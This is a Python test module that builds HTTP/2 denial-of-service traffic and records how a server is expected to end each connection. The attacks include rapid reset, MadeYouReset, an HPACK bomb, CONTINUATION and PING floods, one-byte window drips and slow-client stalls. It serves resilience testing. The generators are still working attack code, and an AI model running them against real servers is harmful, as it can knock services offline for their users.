"""Attacks over HTTP/2: what one connection sends, and how that must end.

Each attack is a generator of bytes, and of seconds to wait for. The check serves the files, and
sets the limits, that are named here.
"""

import functools
import itertools
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from rig import (
    ENABLE_PUSH, INITIAL_WINDOW_SIZE, KIB, MIB, PREFACE, PRIORITY_UPDATE, WINDOW_MAX, block,
    extension, frames, headers, hpack, request, serialize, settings_ack, settings_frame,
    window_update,
)

SMALL, SMALL_BYTES = "/small.txt", 4 * KIB
LARGE, LARGE_BYTES, LARGE_FILES = "/large-{}.bin", 10 * MIB, 10
# Files that are asked for round-robin, so many that the cache does not have them any more when
# their turn comes. The second are those of good clients.
OTHER, OTHER_BYTES, OTHER_FILES = "/other-{}.bin", 2 * MIB, 6_400
SEVERAL, SEVERAL_BYTES, SEVERAL_FILES = "/several-{}.txt", SMALL_BYTES, 2_048
# Descriptors that the cache of a worker may have.
CACHED_FILES = 256
# Deadlines short enough to pass within the time of an attack, seconds.
SEND_WINDOW_S, HEAD_S, FIRST_S, LINGER_S = 2, 2, 2, 1
# The limit on descriptors where they are scarce (RLIMIT_NOFILE), and the deadline of stalled
# connections there: all of an attack are open before the first one ends.
DESCRIPTORS_MAX, SCARCE_WINDOW_S = 2_048, 8
DEADLINE_SLACK_S = 1.5
# Numbers of files that no stream has asked for.
UNUSED = itertools.count()
# Time for which a client's windows stay open before it takes them back, seconds.
WITHDRAWN_S = 0.3
# Bytes that an attacker makes at a time.
CHUNK_BYTES = 16 * KIB
CALM, PROTOCOL = "ENHANCE_YOUR_CALM", "PROTOCOL_ERROR"


@dataclass
class Attack:
    """What an attacker sends, and how that must end."""

    name: str
    sends: Callable[[], Iterator[bytes | float]]
    # Code of GOAWAY, "close" for an end without it; None: the server may endure it.
    ends: str | None = CALM
    # The longest life of a connection, seconds.
    within_s: float = 3.0
    connections: int = 8
    # Opens connections again.
    repeats: bool = True
    # Reads nothing of what the server sends before this time.
    reads_after_s: float = 0.0
    # Sends more after GOAWAY, until the connection is closed.
    persists: bool = False
    receive_bytes: int | None = None
    # Files that a worker may open for it: of 100 streams, all may ask before the first has opened
    # its file.
    opens: int = 100
    # Memory that the attack may add to the workers, without what they may keep.
    bytes_max: int | None = None
    # Seconds of the attack and of the measurement beside it, if they are no others by the options.
    seconds: float = 0.0


def start(*more, window=None):
    settings = settings_frame() if window is None else settings_frame(window=window)
    return serialize(PREFACE, settings, settings_ack(), *more)


def repeat(part, first=b""):
    """The same frames again and again."""
    part = serialize(part)
    yield first or start()
    chunk = part * max(1, CHUNK_BYTES // len(part))
    while True:
        yield chunk


def on_new_streams(make, first=b"", count=64):
    """Frames for one new stream after another."""
    yield first or start()
    stream = 1
    while True:
        parts = b"".join(serialize(*make(number)) for number in streams(stream, count))
        stream += 2 * count
        yield parts


def streams(first, count):
    return range(first, first + 2 * count, 2)


GET = block(request(SMALL))
LARGE_GETS = [block(request(LARGE.format(at))) for at in range(LARGE_FILES)]
POST = block(request(SMALL, "POST"))


def large(stream, ends_stream=True):
    return headers(stream, LARGE_GETS[stream // 2 % LARGE_FILES], ends_stream)


def reset(stream):
    return frames.RstStreamFrame(stream, error_code=8)


def rapid_reset():
    return on_new_streams(lambda stream: (headers(stream, GET), reset(stream)))


def rapid_reset_large():
    return on_new_streams(lambda stream: (large(stream), reset(stream)))


def made_you_reset():
    """The client's fault makes the server reset each stream (CVE-2025-8671)."""
    zero = serialize(window_update(1, 1))
    head, body = zero[:5], struct.pack(">I", 0)

    def make(stream):
        return large(stream), head + struct.pack(">I", stream) + body

    return on_new_streams(make, start(window=0))


def reset_again():
    """RST_STREAM for a stream that is closed."""
    return repeat(reset(1), start(headers(1, GET), reset(1)))


def reset_never_opened():
    return repeat(reset(1), start())


def continuations(length):
    def sends():
        begin = frames.HeadersFrame(1, GET, flags=["END_STREAM"])
        part = block([("x-filler", "x" * (length - 12))]) if length else b""
        return repeat(frames.ContinuationFrame(1, part), start(begin))

    return sends


def flood(frame):
    return lambda: repeat(frame)


def settings_windows():
    """SETTINGS that change the windows of 100 open streams."""
    yield start(*(large(stream) for stream in streams(1, 100)), window=0)
    both = [frames.SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: size}) for size in (0, 1)]
    chunk = serialize(*both) * (CHUNK_BYTES // 30)
    while True:
        yield chunk


def settings_there_and_back():
    """SETTINGS that open 100 windows, and take back all but a byte."""
    yield start(*(large(stream) for stream in streams(1, 100)), window=0)
    for size in itertools.count(1):
        both = [
            frames.SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: bytes_})
            for bytes_ in (size + 1_000, size)
        ]
        yield serialize(*both)


def empty_data():
    return repeat(frames.DataFrame(1, b""), start(headers(1, POST, False)))


def padded_data():
    """DATA of padding alone, which counts against windows."""
    part = frames.DataFrame(1, b"", pad_length=0, flags=["PADDED"])
    return repeat(part, start(headers(1, POST, False)))


def tiny_data():
    return repeat(frames.DataFrame(1, b"x"), start(headers(1, POST, False)))


def empty_headers():
    """HEADERS without a field, all padding."""
    flags = ["END_HEADERS", "END_STREAM", "PADDED"]

    def make(stream):
        return (frames.HeadersFrame(stream, b"", pad_length=255, flags=flags),)

    return on_new_streams(make)


def priority_updates():
    yield start(*(large(stream) for stream in streams(1, 100)), window=0)
    while True:
        parts = [
            extension(PRIORITY_UPDATE, struct.pack(">I", stream) + b"u=%d" % at)
            for at in range(8) for stream in streams(1, 100)
        ]
        yield serialize(*parts)


def window_flood(stream, increment):
    return lambda: repeat(window_update(stream, increment), start(headers(1, GET)))


def window_overflow():
    return repeat(window_update(0, WINDOW_MAX), start())


def hpack_bomb():
    """A field of 4,000 bytes in the table, and blocks of references to it (CVE-2016-6581)."""
    field = ("x-bomb", "x" * 3_900)
    encoder = hpack.Encoder()
    first = encoder.encode([*request(SMALL), field])
    # A reference takes one byte.
    bomb = GET + encoder.encode([field]) * 8_000
    yield start(headers(1, first))
    stream = 3
    while True:
        yield serialize(*(headers(number, bomb) for number in streams(stream, 4)))
        stream += 8


def table_sizes():
    """Changes of the table's size, at the start of each block as the RFC asks. The requests are
    valid, so their number is limited here.
    """
    sizes = b"\x20\x3f\xe1\x1f"  # 0, then 4,096
    first = start(window_update(0, WINDOW_MAX - 65_535))
    for made in on_new_streams(lambda stream: (headers(stream, sizes + GET),), first, count=2):
        yield made
        yield 0.1


def empty_names():
    """Fields whose names have no bytes (CVE-2019-9516)."""
    field_block = GET + b"\x00\x00\x00" * 30
    return on_new_streams(lambda stream: (headers(stream, field_block),))


def too_many_streams():
    return on_new_streams(lambda stream: (large(stream),), start(window=0))


def trailers_again():
    """HEADERS on streams whose requests have ended."""
    def make(stream):
        return large(stream), headers(stream, block([("x-trailer", "1")]))

    return on_new_streams(make, start(window=0))


def after_goaway():
    """Frames after an error: the server has sent GOAWAY, and the client continues."""
    return repeat(frames.DataFrame(1, b"x" * 4 * KIB), start(reset(1)))


def client_goaways():
    return repeat(frames.GoAwayFrame(0, last_stream_id=0, error_code=0))


def one_byte_windows():
    """A hundred responses that each get one byte more at a time (CVE-2019-9511)."""
    yield start(*(large(stream) for stream in streams(1, 100)), window=1)
    chunk = serialize(*(window_update(stream, 1) for stream in streams(1, 100)))
    while True:
        yield chunk


def one_byte_for_all():
    """A hundred responses that share one byte more at a time."""
    yield start(*(large(stream) for stream in streams(1, 100)), window=MIB)
    # The first window of the connection is used up.
    yield 0.2
    while True:
        yield serialize(window_update(0, 1))


def slow_windows():
    """The same, so slowly that no budget notices: below the slowest permitted rate."""
    yield start(*(large(stream) for stream in streams(1, 100)), window=1)
    for stream in [*streams(1, 100)] * 100:
        yield 0.1
        yield serialize(window_update(stream, 1))


@functools.cache
def other_get(number):
    return block(request(OTHER.format(number)))


def prepare_requests():
    """Encodes the requests for other files, which takes a while."""
    for number in range(OTHER_FILES):
        other_get(number)


def other_streams():
    """A hundred requests, each for a file that has not been asked for lately."""
    return [headers(stream, other_get(next(UNUSED) % OTHER_FILES)) for stream in streams(1, 100)]


def other_files():
    """A hundred responses that never get a window, each of another file."""
    yield start(*other_streams(), window=0)
    while True:
        yield 1


def dripped(size, pause_s=0.0, make=None):
    """A hundred responses whose windows open by so many bytes at a time: all of them as fast as the
    server takes it, or one after another with a pause between two.
    """

    def sends():
        requests = make() if make else [large(stream) for stream in streams(1, 100)]
        yield start(window_update(0, WINDOW_MAX - 65_535), *requests, window=size)
        parts = [serialize(window_update(stream, size)) for stream in streams(1, 100)]
        if not pause_s:
            yield from itertools.repeat(b"".join(parts))
        for part in itertools.cycle(parts):
            yield pause_s
            yield part

    return sends


def no_reading():
    """Windows are open, and the client does not read (CVE-2019-9517)."""
    requests = (large(stream) for stream in streams(1, 100))
    yield start(window_update(0, WINDOW_MAX - 65_535), *requests, window=WINDOW_MAX)
    while True:
        yield 1


def withdrawn_windows():
    """Windows are open until the server has read files, and then are taken back."""
    requests = (large(stream) for stream in streams(1, 4))
    yield start(window_update(0, WINDOW_MAX - 65_535), *requests, window=WINDOW_MAX)
    yield WITHDRAWN_S
    yield serialize(frames.SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 0}))
    while True:
        yield 1


def slow_preface():
    yield from slowly(PREFACE)


def slow_frame():
    """A frame, byte by byte."""
    yield start()
    yield from slowly(serialize(headers(1, block(request("/" + "x" * 200)))))


def slow_block():
    """A field block in whole frames, slowly, that does not end."""
    yield start(frames.HeadersFrame(1, GET, flags=["END_STREAM"]))
    for _ in range(7):
        yield 1
        yield serialize(frames.ContinuationFrame(1, block([("x-a", "b")])))
    while True:
        yield 1


def slowly(octets):
    for octet in octets:
        yield bytes([octet])
        yield 0.4
    while True:
        yield 1


def nothing():
    """No byte after the handshake."""
    while True:
        yield 1


def body_slowly():
    """A request whose content does not end: its response has been sent."""
    yield start(*(headers(stream, POST, False) for stream in streams(1, 100)))
    while True:
        yield 1


def handshake():
    """The control of what attackers do besides: they connect, and leave."""
    yield start()
    yield 0.02


def busy():
    """The control: as much work as that of an attacker, and nothing is sent."""
    while True:
        serialize(*(headers(stream, GET) for stream in streams(1, 100)))
        yield 0


PING = frames.PingFrame(0, b"01234567")
PING_ACK = frames.PingFrame(0, b"01234567", flags=["ACK"])
PRIORITY = frames.PriorityFrame(1, depends_on=0, stream_weight=7)
UNKNOWN = extension(0x7F)
STALL_S = SEND_WINDOW_S + DEADLINE_SLACK_S
SLOW_S = HEAD_S + DEADLINE_SLACK_S
# A stalled connection may be checked twice: it has made progress in the first window.
TWICE_S = 2 * SEND_WINDOW_S + DEADLINE_SLACK_S
# Pause between two drips of a window: what they permit is less than a client must take.
DRIP_S = SEND_WINDOW_S + 0.5
SCARCE_STALL_S = SCARCE_WINDOW_S + DEADLINE_SLACK_S
SCARCE_TWICE_S = 2 * SCARCE_WINDOW_S + DEADLINE_SLACK_S


def stalls(name, sends, ends="NO_ERROR", **more):
    """An attack that a deadline ends: the client waits, and opens no other connection."""
    values = {"within_s": STALL_S, "connections": 64, "repeats": False, **more}
    return Attack(name, sends, ends, **values)


ATTACKS = [
    Attack("control: the attackers' work, and nothing is sent", busy, None, connections=2),
    Attack("control: handshakes of clients that leave", handshake, None),
    Attack("rapid reset", rapid_reset),
    Attack("rapid reset of files that are not cached", rapid_reset_large),
    Attack("resets that the client causes (MadeYouReset)", made_you_reset),
    Attack("RST_STREAM of a closed stream", reset_again),
    Attack("RST_STREAM of a stream never opened", reset_never_opened, PROTOCOL),
    Attack("CONTINUATION, empty", continuations(0)),
    Attack("CONTINUATION of 100 bytes", continuations(100)),
    Attack("CONTINUATION of 16,000 bytes", continuations(16_000)),
    Attack("SETTINGS", flood(frames.SettingsFrame(0, settings={ENABLE_PUSH: 0}))),
    Attack("SETTINGS that change 100 windows", settings_windows),
    Attack("SETTINGS that open 100 windows and shut them", settings_there_and_back),
    Attack("SETTINGS acknowledgements", flood(settings_ack())),
    Attack("PING", flood(PING)),
    Attack("PING, and its answers are not read", flood(PING), reads_after_s=TWICE_S),
    Attack("PING acknowledgements", flood(PING_ACK)),
    Attack("GOAWAY of the client", client_goaways),
    Attack("PRIORITY", flood(PRIORITY)),
    Attack("PRIORITY_UPDATE of 100 open streams", priority_updates),
    Attack("frames of an unknown type", flood(UNKNOWN)),
    Attack("WINDOW_UPDATE by 1 byte, connection", window_flood(0, 1)),
    Attack("WINDOW_UPDATE by 1 byte, closed stream", window_flood(1, 1)),
    Attack("WINDOW_UPDATE by 256 bytes, closed stream", window_flood(1, 256)),
    Attack("WINDOW_UPDATE beyond the largest window", window_overflow, "FLOW_CONTROL_ERROR"),
    Attack("empty DATA", empty_data),
    Attack("DATA of padding alone", padded_data),
    Attack("DATA of 1 byte", tiny_data),
    Attack("empty HEADERS with padding", empty_headers),
    Attack("header names of 0 bytes", empty_names),
    Attack("HPACK: references to a large field", hpack_bomb),
    Attack("HPACK: changes of the table's size", table_sizes, None),
    Attack("streams beyond the limit", too_many_streams),
    Attack("HEADERS after the end of a request", trailers_again),
    Attack(
        "data after GOAWAY", after_goaway, PROTOCOL, LINGER_S + DEADLINE_SLACK_S, persists=True
    ),
    Attack("one-byte windows", one_byte_windows),
    Attack("one-byte windows of the connection", one_byte_for_all),
    Attack("windows of 255 bytes", dripped(255)),
    # From that on a window is no fault, while the client takes what it permits.
    Attack("windows of 256 bytes", dripped(256), None),
    stalls("one-byte windows, slowly", slow_windows, within_s=TWICE_S),
    stalls("windows of 255 bytes, slowly", dripped(255, DRIP_S), within_s=TWICE_S),
    stalls("windows of 256 bytes, slowly", dripped(256, DRIP_S), within_s=TWICE_S),
    stalls(
        "windows that are taken back", withdrawn_windows, within_s=TWICE_S,
        reads_after_s=WITHDRAWN_S, receive_bytes=8 * KIB,
    ),
    stalls(
        "responses that are not read", no_reading, ends="close", within_s=TWICE_S + 2,
        reads_after_s=TWICE_S, receive_bytes=8 * KIB,
    ),
    stalls("slow preface", slow_preface, within_s=SLOW_S),
    stalls("slow frame", slow_frame, within_s=SLOW_S),
    stalls("slow field block", slow_block, within_s=SLOW_S),
    stalls("nothing after the handshake", nothing, within_s=FIRST_S + DEADLINE_SLACK_S),
    stalls("requests whose content does not end", body_slowly, None),
]

# Attacks where descriptors are scarce. A stream keeps the name of its file, too.
SCARCE_ATTACKS = [
    stalls(
        "scarce: 40 connections of 100 zero-window streams", other_files, connections=40,
        within_s=SCARCE_STALL_S,
    ),
    stalls(
        "scarce: 1,000 connections of 100 zero-window streams", other_files, connections=1_000,
        within_s=SCARCE_STALL_S, bytes_max=1_000 * (16 * KIB + 100 * 384), seconds=10,
    ),
    *(
        stalls(
            f"scarce: windows of {size} bytes, slowly", dripped(size, 0.2, other_streams),
            ends=None, connections=40, within_s=SCARCE_TWICE_S,
        )
        for size in (1, 255, 256)
    ),
]
